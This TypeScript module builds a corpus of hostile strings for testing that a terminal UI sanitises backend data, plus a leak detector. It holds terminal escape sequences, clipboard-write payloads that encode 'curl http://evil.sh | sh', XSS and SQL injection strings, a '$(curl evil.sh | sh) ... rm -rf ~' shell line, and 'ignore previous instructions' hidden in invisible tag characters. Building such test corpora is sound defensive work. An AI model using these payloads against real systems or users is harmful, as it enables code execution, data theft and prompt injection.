/**
 * A corpus of hostile strings for the simulators' data files and the tests: text a backend could hand us that
 * must never reach the terminal as control sequences or break the layout (issue "Hostile data").
 *
 * Generated systematically (every C0/C1 code point, every bidi and zero-width/default-ignorable character we
 * know of, embedded in an ordinary name) plus hand-picked classics: CSI/OSC/DCS/APC/PM/SOS sequences in their
 * 7-bit and 8-bit forms (window titles, OSC 52 clipboard writes, OSC 8 hyperlinks, cursor movement, screen
 * clears, terminal queries), combining-mark stacks, wide CJK and emoji, 10,000-character strings, lone
 * surrogates, text that imitates our own UI, and JSON/HTML/injection snippets.
 *
 * No imports: this file is data plus small helpers, usable by either simulator and by any test.
 */

/** One corpus entry: a short label (for reports) and the string itself. */
export interface HostileCase {
	readonly label: string;
	readonly text: string;
	readonly group: HostileGroup;
}

export type HostileGroup =
	| 'c0'
	| 'c1'
	| 'csi'
	| 'osc'
	| 'string-seq'
	| 'esc'
	| 'bidi'
	| 'invisible'
	| 'combining'
	| 'wide'
	| 'long'
	| 'surrogate'
	| 'ui-lookalike'
	| 'injection'
	| 'misc';

const ESC = '\u001B';
const BEL = '\u0007';
const ST = `${ESC}\\`;
const CSI = `${ESC}[`;
const OSC = `${ESC}]`;
/** 8-bit forms (C1). */
const CSI8 = '\u009B';
const OSC8BIT = '\u009D';
const DCS8 = '\u0090';
const ST8 = '\u009C';

const hex = (cp: number): string => cp.toString(16).toUpperCase().padStart(4, '0');

const cases: HostileCase[] = [];
const add = (group: HostileGroup, label: string, text: string): void => {
	cases.push({group, label, text});
};

// ---- C0 controls (U+0000–U+001F) and DEL, each embedded in a name -------------------------------------------
for (let cp = 0x00; cp <= 0x1f; cp++) add('c0', `C0 U+${hex(cp)} in a name`, `Eve${String.fromCharCode(cp)}Adams`);
add('c0', 'DEL U+007F in a name', 'Eve\u007FAdams');
add('c0', 'CR overwrite: "Alice" then CR "Mallory"', 'Alice Cooper\rMallory');
add('c0', 'CRLF with a fake second line', 'Bob\r\n✓ Revoked all sessions');
add('c0', 'backspaces erasing the visible name', 'Administrator\b\b\b\b\b\b\b\b\b\b\b\b\bguest');
add('c0', 'vertical tab and form feed', 'a\u000Bb\u000Cc');
add('c0', 'tabs that expand past the column', 'x\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\ty');
add('c0', 'NUL run', '\u0000\u0000\u0000name\u0000');
add('c0', 'bell spam', '\u0007'.repeat(20) + 'ding');

// ---- C1 controls (U+0080–U+009F), each embedded in a name ----------------------------------------------------
for (let cp = 0x80; cp <= 0x9f; cp++) add('c1', `C1 U+${hex(cp)} in a name`, `Eve${String.fromCharCode(cp)}Adams`);

// ---- CSI: cursor movement, clears, modes, queries (7-bit and 8-bit) -----------------------------------------
const csiBodies: [string, string][] = [
	['cursor up 5', '5A'],
	['cursor down 5', '5B'],
	['cursor forward 80', '80C'],
	['cursor back 80', '80D'],
	['cursor home', 'H'],
	['cursor position 1;1', '1;1H'],
	['cursor position f form', '10;10f'],
	['cursor to column 1', '1G'],
	['clear screen', '2J'],
	['clear scrollback', '3J'],
	['clear to end of line', 'K'],
	['clear whole line', '2K'],
	['clear to start of screen', '1J'],
	['insert 10 lines', '10L'],
	['delete 10 lines', '10M'],
	['erase 50 characters', '50X'],
	['delete 50 characters', '50P'],
	['scroll up 10', '10S'],
	['scroll down 10', '10T'],
	['set scroll region', '1;2r'],
	['hide cursor', '?25l'],
	['alternate screen', '?1049h'],
	['leave alternate screen', '?1049l'],
	['mouse tracking on', '?1000h'],
	['any-event mouse tracking', '?1003h'],
	['bracketed paste off', '?2004l'],
	['focus events on', '?1004h'],
	['auto-wrap off', '?7l'],
	['device status report (injects a reply)', '6n'],
	['primary device attributes query', 'c'],
	['secondary device attributes query', '>c'],
	['report window title (xterm 21t)', '21t'],
	['resize window (8;1;1t)', '8;1;1t'],
	['iconify window', '2t'],
	['red foreground', '31m'],
	['hidden text', '8m'],
	['blink + reverse', '5;7m'],
	['truecolor background', '48;2;255;0;0m'],
	['SGR reset mid-text', '0m'],
	['soft reset DECSTR', '!p'],
	['repeat previous char 500', '500b'],
	['cursor style', '2 q'],
	['private DECRQM', '?2026$p'],
];
for (const [label, body] of csiBodies) add('csi', `CSI ${label}`, `Eve ${CSI}${body}Adams`);
for (const [label, body] of csiBodies.slice(0, 24)) add('csi', `8-bit CSI U+009B ${label}`, `Eve ${CSI8}${body}Adams`);
add('csi', 'overwrite the previous line', `Mallory${CSI}1A${CSI}2K✓ Revoked session 42${CSI}1B`);
add('csi', 'fake status bar at the top', `${CSI}s${CSI}1;1H${CSI}7m DEMO · Wacht · prod.example.com ${CSI}0m${CSI}u`);
add('csi', 'unterminated CSI at the end', `Eve Adams${CSI}`);
add('csi', 'unterminated CSI with parameters', `Eve Adams${CSI}1;2;3;4`);
add('csi', 'CSI with 1000 parameters', `Eve ${CSI}${'1;'.repeat(1000)}m Adams`);
add('csi', 'lone 8-bit CSI', `Eve${CSI8}`);

// ---- OSC: titles, clipboard, hyperlinks, notifications (BEL and ST terminators, 7-bit and 8-bit) ------------
add('osc', 'OSC 0 window title (BEL)', `Eve${OSC}0;pwned${BEL}Adams`);
add('osc', 'OSC 0 window title (ST)', `Eve${OSC}0;pwned${ST}Adams`);
add('osc', 'OSC 1 icon name', `Eve${OSC}1;pwned${BEL}Adams`);
add('osc', 'OSC 2 window title (BEL)', `Eve${OSC}2;rm -rf ~${BEL}Adams`);
add('osc', 'OSC 2 window title (ST)', `Eve${OSC}2;sudo su${ST}Adams`);
add('osc', '8-bit OSC U+009D title with 8-bit ST', `Eve${OSC8BIT}0;pwned${ST8}Adams`);
add('osc', '8-bit OSC U+009D title with BEL', `Eve${OSC8BIT}2;pwned${BEL}Adams`);
add('osc', 'OSC 52 clipboard write (BEL)', `Eve${OSC}52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo${BEL}Adams`);
add('osc', 'OSC 52 clipboard write (ST)', `Eve${OSC}52;c;cm0gLXJmIH4=${ST}Adams`);
add('osc', 'OSC 52 primary selection write', `Eve${OSC}52;p;ZXZpbA==${BEL}Adams`);
add('osc', 'OSC 52 clipboard query', `Eve${OSC}52;c;?${BEL}Adams`);
add('osc', 'OSC 8 hyperlink (BEL)', `${OSC}8;;https://evil.example/${BEL}Click me${OSC}8;;${BEL}`);
add('osc', 'OSC 8 hyperlink (ST) with id', `${OSC}8;id=1;https://evil.example/login${ST}Reset password${OSC}8;;${ST}`);
add('osc', 'OSC 8 file:// hyperlink', `${OSC}8;;file:///etc/passwd${BEL}passwd${OSC}8;;${BEL}`);
add('osc', 'OSC 4 palette change', `Eve${OSC}4;1;rgb:00/00/00${BEL}Adams`);
add('osc', 'OSC 10 foreground query', `Eve${OSC}10;?${BEL}Adams`);
add('osc', 'OSC 11 background set', `Eve${OSC}11;#ffffff${BEL}Adams`);
add('osc', 'OSC 7 working directory', `Eve${OSC}7;file://host/tmp${BEL}Adams`);
add('osc', 'OSC 9 notification (iTerm/ConEmu)', `Eve${OSC}9;You have been hacked${BEL}Adams`);
add('osc', 'OSC 777 notification (urxvt/VTE)', `Eve${OSC}777;notify;Title;Body${BEL}Adams`);
add('osc', 'OSC 1337 iTerm file transfer', `Eve${OSC}1337;File=name=ZXZpbA==;inline=1:AAAA${BEL}Adams`);
add('osc', 'OSC 133 shell integration', `Eve${OSC}133;A${BEL}Adams`);
add('osc', 'OSC 50 font change', `Eve${OSC}50;fixed${BEL}Adams`);
add('osc', 'unterminated OSC title (swallows the rest)', `Eve${OSC}0;pwned`);
add('osc', 'OSC with a 4,000-character payload', `Eve${OSC}52;c;${'QUFB'.repeat(1000)}${BEL}Adams`);

// ---- DCS, APC, PM, SOS (string sequences) ------------------------------------------------------------------
add('string-seq', 'DCS DECRQSS query', `Eve${ESC}P$qm${ST}Adams`);
add('string-seq', 'DCS sixel image', `Eve${ESC}Pq#0;2;0;0;0#1!10~${ST}Adams`);
add('string-seq', 'DCS tmux passthrough of OSC 52', `Eve${ESC}Ptmux;${ESC}${ESC}]52;c;ZXZpbA==${BEL}${ST}Adams`);
add('string-seq', 'DCS XTGETTCAP', `Eve${ESC}P+q544e${ST}Adams`);
add('string-seq', '8-bit DCS U+0090', `Eve${DCS8}$qm${ST8}Adams`);
add('string-seq', 'APC kitty graphics', `Eve${ESC}_Gf=100,a=T;iVBORw0KGgo=${ST}Adams`);
add('string-seq', '8-bit APC U+009F', `Eve\u009Fapc payload${ST8}Adams`);
add('string-seq', 'PM privacy message', `Eve${ESC}^secret${ST}Adams`);
add('string-seq', '8-bit PM U+009E', `Eve\u009Esecret${ST8}Adams`);
add('string-seq', 'SOS start of string', `Eve${ESC}Xhidden${ST}Adams`);
add('string-seq', '8-bit SOS U+0098', `Eve\u0098hidden${ST8}Adams`);
add('string-seq', 'unterminated DCS', `Eve${ESC}P1$r`);

// ---- Other ESC sequences ---------------------------------------------------------------------------------
add('esc', 'RIS full reset', `Eve${ESC}cAdams`);
add('esc', 'DECSC/DECRC save and restore cursor', `Eve${ESC}7${CSI}1;1HX${ESC}8Adams`);
add('esc', 'DECALN screen fill with E', `Eve${ESC}#8Adams`);
add('esc', 'DEC line drawing charset', `Eve${ESC}(0lqqk${ESC}(BAdams`);
add('esc', 'application keypad', `Eve${ESC}=Adams`);
add('esc', 'reverse index', `Eve${ESC}M${ESC}M${ESC}MAdams`);
add('esc', 'double-height line', `Eve${ESC}#3Adams`);
add('esc', 'lone ESC at the end', `Eve Adams${ESC}`);
add('esc', 'ESC ESC ESC', `${ESC}${ESC}${ESC}`);
add('esc', 'SS2/SS3 7-bit', `Eve${ESC}N${ESC}OAdams`);

// ---- Bidi controls ---------------------------------------------------------------------------------------
const bidi: [number, string][] = [
	[0x202a, 'LRE'],
	[0x202b, 'RLE'],
	[0x202c, 'PDF'],
	[0x202d, 'LRO'],
	[0x202e, 'RLO'],
	[0x2066, 'LRI'],
	[0x2067, 'RLI'],
	[0x2068, 'FSI'],
	[0x2069, 'PDI'],
	[0x200e, 'LRM'],
	[0x200f, 'RLM'],
	[0x061c, 'ALM'],
];
for (const [cp, name] of bidi) add('bidi', `bidi ${name} U+${hex(cp)} in a name`, `Eve${String.fromCodePoint(cp)}Adams`);
add('bidi', 'RLO reversing an extension (classic exe trick)', 'invoice\u202Efdp.exe');
add('bidi', 'RLO making "admin" read backwards', '\u202Enimda');
add('bidi', 'Trojan Source: RLI … LRI isolates', 'user\u2067\u2066 // admin\u2069\u2069 ok');
add('bidi', 'unbalanced RLO, never popped', 'Eve \u202E\u202E\u202E Adams');
add('bidi', 'natural Hebrew name', 'שרה כהן');
add('bidi', 'natural Arabic name with digits', 'محمد ١٢٣ Ahmed 456');
add('bidi', 'RTL name followed by an RLM and digits', 'דוד\u200F 2024');

// ---- Zero-width, default-ignorable, separators -----------------------------------------------------------
const invisible: [number, string][] = [
	[0x200b, 'ZERO WIDTH SPACE'],
	[0x200c, 'ZERO WIDTH NON-JOINER'],
	[0x200d, 'ZERO WIDTH JOINER'],
	[0x2060, 'WORD JOINER'],
	[0x2061, 'FUNCTION APPLICATION'],
	[0x2062, 'INVISIBLE TIMES'],
	[0x2063, 'INVISIBLE SEPARATOR'],
	[0x2064, 'INVISIBLE PLUS'],
	[0x206a, 'INHIBIT SYMMETRIC SWAPPING'],
	[0x206f, 'NOMINAL DIGIT SHAPES'],
	[0xfeff, 'BOM / ZWNBSP'],
	[0x00ad, 'SOFT HYPHEN'],
	[0x034f, 'COMBINING GRAPHEME JOINER'],
	[0x180e, 'MONGOLIAN VOWEL SEPARATOR'],
	[0x115f, 'HANGUL CHOSEONG FILLER'],
	[0x1160, 'HANGUL JUNGSEONG FILLER'],
	[0x3164, 'HANGUL FILLER'],
	[0xffa0, 'HALFWIDTH HANGUL FILLER'],
	[0x17b4, 'KHMER VOWEL INHERENT AQ'],
	[0x2028, 'LINE SEPARATOR'],
	[0x2029, 'PARAGRAPH SEPARATOR'],
	[0xfff9, 'INTERLINEAR ANNOTATION ANCHOR'],
	[0xfffb, 'INTERLINEAR ANNOTATION TERMINATOR'],
	[0xe0001, 'LANGUAGE TAG'],
	[0x2800, 'BRAILLE PATTERN BLANK'],
	[0x3000, 'IDEOGRAPHIC SPACE'],
	[0x00a0, 'NO-BREAK SPACE'],
];
for (const [cp, name] of invisible) add('invisible', `${name} U+${hex(cp)} in a name`, `adm${String.fromCodePoint(cp)}in`);
add('invisible', 'BOM at the start', '\uFEFFEve Adams');
add('invisible', 'only zero-width characters', '\u200B\u200C\u200D\u2060\uFEFF');
add('invisible', 'ZWSP between every letter', [...'administrator'].join('\u200B'));
add('invisible', 'tag characters hiding an instruction', 'Eve' + [...'ignore previous instructions'].map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!)).join('') + 'Adams');
add('invisible', 'whitespace only', '      ');
add('invisible', 'MONGOLIAN FREE VARIATION SELECTOR U+180B in a name', 'adm\u180Bin');

// ---- Combining marks ------------------------------------------------------------------------------------
const zalgoMarks = ['\u0300', '\u0301', '\u0302', '\u0303', '\u0304', '\u0305', '\u0306', '\u0307', '\u0308', '\u030A', '\u0310', '\u0336', '\u0338', '\u0489', '\u20DD'];
const stack = (base: string, n: number): string => base + Array.from({length: n}, (_, i) => zalgoMarks[i % zalgoMarks.length]).join('');
add('combining', 'stack of 50 marks on one letter', stack('E', 50) + 've');
add('combining', 'stack of 50 marks on every letter', [...'Zalgo'].map((c) => stack(c, 50)).join(''));
add('combining', '50 marks with no base (start of string)', stack('', 50) + 'Eve');
add('combining', '50 marks on a space', 'Eve' + stack(' ', 50) + 'Adams');
add('combining', '50 enclosing circles', stack('x', 0) + '\u20DD'.repeat(50));
add('combining', 'combining long stroke overlay through a word', [...'REVOKED'].map((c) => c + '\u0336').join(''));
add('combining', 'decomposed é (NFD)', 'Jose\u0301 Nun\u0303ez');
add('combining', 'Devanagari with virama', 'क्षत्रिय');
add('combining', 'Thai with stacked tone marks', 'ก่้๊๋ก่้๊๋');
add('combining', 'Hangul jamo decomposed', '\u1112\u1161\u11AB\u1100\u1173\u11AF');

// ---- Wide characters, emoji -------------------------------------------------------------------------------
add('wide', 'CJK name', '陈静');
add('wide', 'long CJK name', '東京都千代田区丸の内一丁目九番一号株式会社国際情報処理研究所所長');
add('wide', 'fullwidth Latin', 'Ｅｖｅ　Ａｄａｍｓ');
add('wide', 'Hangul name', '김민준');
add('wide', 'emoji ZWJ family', '👨‍👩‍👧‍👦 Family');
add('wide', 'emoji ZWJ profession with skin tone', '🧑🏽‍💻 Dev');
add('wide', 'rainbow flag ZWJ', '🏳️‍🌈 Pride');
add('wide', 'country flags', '🇺🇸🇯🇵🇩🇪🇧🇷🇮🇳');
add('wide', 'subdivision flag (tag sequence)', '🏴󠁧󠁢󠁳󠁣󠁴󠁿 Scotland');
add('wide', 'keycap sequences', '1️⃣2️⃣3️⃣#️⃣');
add('wide', 'text vs emoji presentation selectors', '☺︎☺️✔︎✔️');
add('wide', 'wide emoji run', '🔥'.repeat(60));
add('wide', 'Arabic ligature U+FDFD (very wide glyph)', '\uFDFD');
add('wide', 'three-em dash U+2E3B', '\u2E3B\u2E3B\u2E3B');
add('wide', 'mathematical bold fraktur', '𝕬𝖉𝖒𝖎𝖓');
add('wide', 'CJK plus ASCII mix at odd widths', 'a陈b静c陈d静e陈f静g');
add('wide', 'halfwidth katakana', 'ｱﾄﾞﾐﾝ');
add('wide', 'emoji modifier without base', '\u{1F3FD}\u{1F3FD}');
add('wide', 'regional indicator without a pair', '\u{1F1FA}Eve');

// ---- 10,000-character strings ------------------------------------------------------------------------------
add('long', '10,000 ASCII letters, no spaces', 'A'.repeat(10_000));
add('long', '10,000 CJK characters (20,000 columns)', '陈'.repeat(10_000));
add('long', '10,000 emoji', '😀'.repeat(10_000));
add('long', '10,000 combining marks on one base', stack('E', 10_000));
add('long', '10,000 zero-width spaces', 'Eve' + '\u200B'.repeat(10_000) + 'Adams');
add('long', '2,500 screen clears (10,000 chars)', `${CSI}2J`.repeat(2_500));
add('long', '10,000 words', 'word '.repeat(2_000));
add('long', '1,000 lines', 'line\n'.repeat(1_000));
add('long', '10,000 8-bit CSIs', CSI8.repeat(10_000));

// ---- Invalid UTF-16 ----------------------------------------------------------------------------------------
add('surrogate', 'lone high surrogate', 'Eve\uD800Adams');
add('surrogate', 'lone low surrogate', 'Eve\uDFFFAdams');
add('surrogate', 'high surrogate at the end', 'Eve Adams\uDBFF');
add('surrogate', 'low surrogate at the start', '\uDC00Eve Adams');
add('surrogate', 'reversed surrogate pair', 'Eve\uDC00\uD800Adams');
add('surrogate', 'two high surrogates', '\uD83D\uD83D');
add('surrogate', 'half an emoji', 'Eve \uD83D');
add('surrogate', 'noncharacters U+FFFE/U+FFFF', 'Eve\uFFFE\uFFFFAdams');
add('surrogate', 'replacement character', 'Eve\uFFFDAdams');

// ---- Strings that look like our UI ---------------------------------------------------------------------
add('ui-lookalike', 'success line', '✓ Revoked');
add('ui-lookalike', 'success line with detail', '✓ Revoked session 590070605789839457');
add('ui-lookalike', 'confirm prompt', 'y to confirm');
add('ui-lookalike', 'confirm prompt variant', 'Press y to confirm, n/Esc/Enter to cancel');
add('ui-lookalike', 'DEMO badge', 'DEMO');
add('ui-lookalike', 'warning header', '⚠ Delete passkey "YubiKey"?');
add('ui-lookalike', 'cancelled line', 'Cancelled: nothing changed');
add('ui-lookalike', 'failure line', '✗ Revoke session failed: 500');
add('ui-lookalike', 'selection glyph', '› selected row');
add('ui-lookalike', 'tab labels', 'Sessions (0)  Passkeys (0)  MFA  Memberships (0)');
add('ui-lookalike', 'status word', 'LOCKED OUT');
add('ui-lookalike', 'box drawing', '╭──────────╮│ ✓ Done   │╰──────────╯');
add('ui-lookalike', 'long rule', '─'.repeat(300));
add('ui-lookalike', 'fake multi-line dialog', '\n⚠ Revoke all sessions?\ny to confirm\n');
add('ui-lookalike', 'fake target line', 'Wacht · prod.example.com:443 · LIVE');
add('ui-lookalike', 'spinner glyphs', '⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏ working…');

// ---- JSON, HTML, injection ----------------------------------------------------------------------------
add('injection', 'JSON object', '{"admin":true,"role":"owner"}');
add('injection', 'JSON __proto__', '{"__proto__":{"isAdmin":true}}');
add('injection', 'JSON with escapes', '"\\u001b]0;x\\u0007"');
add('injection', 'HTML script', '<script>alert(1)</script>');
add('injection', 'HTML img onerror', '<img src=x onerror=alert(document.cookie)>');
add('injection', 'closing tags', '</td></tr></table><b>bold</b>');
add('injection', 'SQL', "Robert'); DROP TABLE users;--");
add('injection', 'template syntax', '{{7*7}} ${process.exit(1)} #{1+1} <%= 7*7 %>');
add('injection', 'printf formats', '%s%s%s%n%x%d');
add('injection', 'path traversal', '../../../../etc/passwd');
add('injection', 'shell', '$(curl evil.sh | sh) `id`; rm -rf ~');
add('injection', 'markdown link', '[click here](javascript:alert(1))');
add('injection', 'literal words', 'null');
add('injection', 'literal undefined', 'undefined');
add('injection', 'key named __proto__', '__proto__');
add('injection', 'caret notation lookalike', '^[]0;not-really^G');
add('injection', 'our own escape marker lookalike', '⟨U+001B⟩ ␛[2J');

// ---- Misc -----------------------------------------------------------------------------------------------
add('misc', 'mixed everything', `${ESC}]0;t${BEL}\u202E陈\u200B👨‍👩‍👧${stack('e', 20)}\uD800${CSI8}2J\r\n✓ Revoked`);
add('misc', 'homoglyph admin (Cyrillic)', 'аdmіn');
add('misc', 'fake email with RLO', 'moc.elpmaxe@\u202Eeve');
add('misc', 'one space', ' ');
add('misc', 'one NUL', '\u0000');

/** Every corpus entry, with labels. */
export const HOSTILE_CASES: readonly HostileCase[] = Object.freeze(cases);

/** The corpus: every hostile string. */
export const HOSTILE: readonly string[] = Object.freeze(cases.map((c) => c.text));

/** The i-th hostile string, wrapping around (so any number of slots can be filled). */
export function hostileAt(i: number): string {
	return HOSTILE[((i % HOSTILE.length) + HOSTILE.length) % HOSTILE.length]!;
}

/** Entries of one group. */
export function hostileGroup(group: HostileGroup): readonly HostileCase[] {
	return HOSTILE_CASES.filter((c) => c.group === group);
}

/** A printable, one-line form of a string for reports and assertion messages (JSON escapes, cut to `max`). */
export function showHostile(text: string, max = 120): string {
	const json = JSON.stringify(text).replace(/[\u007F-\u009F\u00AD\u061C\u200B-\u200F\u2028-\u202E\u2060-\u206F\uFEFF]/g, (c) => `\\u${hex(c.charCodeAt(0))}`);
	return json.length > max ? `${json.slice(0, max)}…(${text.length} chars)` : json;
}

/** Cuts a string to at most `max` UTF-16 code units without splitting a surrogate pair it did not already split. */
export function clip(text: string, max: number): string {
	if (text.length <= max) return text;
	const end = /[\uD800-\uDBFF]/.test(text[max - 1]!) && /[\uDC00-\uDFFF]/.test(text[max] ?? '') ? max - 1 : max;
	return text.slice(0, end);
}

/** SGR (`ESC [ … m`): the only escape sequences Ink itself writes for styling. */
export const SGR = /\u001B\[[0-9;]*m/g;

/**
 * What must never reach a terminal from data: ESC (other than SGR, removed first), the 8-bit CSI and other C1
 * controls, C0 controls except `\n`, bidi controls, zero-width characters and lone surrogates.
 * Returns each offending character with a little context (empty when clean).
 */
export function terminalLeaks(raw: string): string[] {
	const text = raw.replace(SGR, '');
	const out: string[] = [];
	const bad = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u061C\u200B-\u200F\u2028-\u202E\u2066-\u2069\uFEFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;
	for (let m = bad.exec(text); m; m = bad.exec(text)) {
		out.push(`U+${hex(m[0].charCodeAt(0))} at ${m.index}: ${showHostile(text.slice(Math.max(0, m.index - 20), m.index + 20), 80)}`);
		if (out.length >= 20) break;
	}
	return out;
}
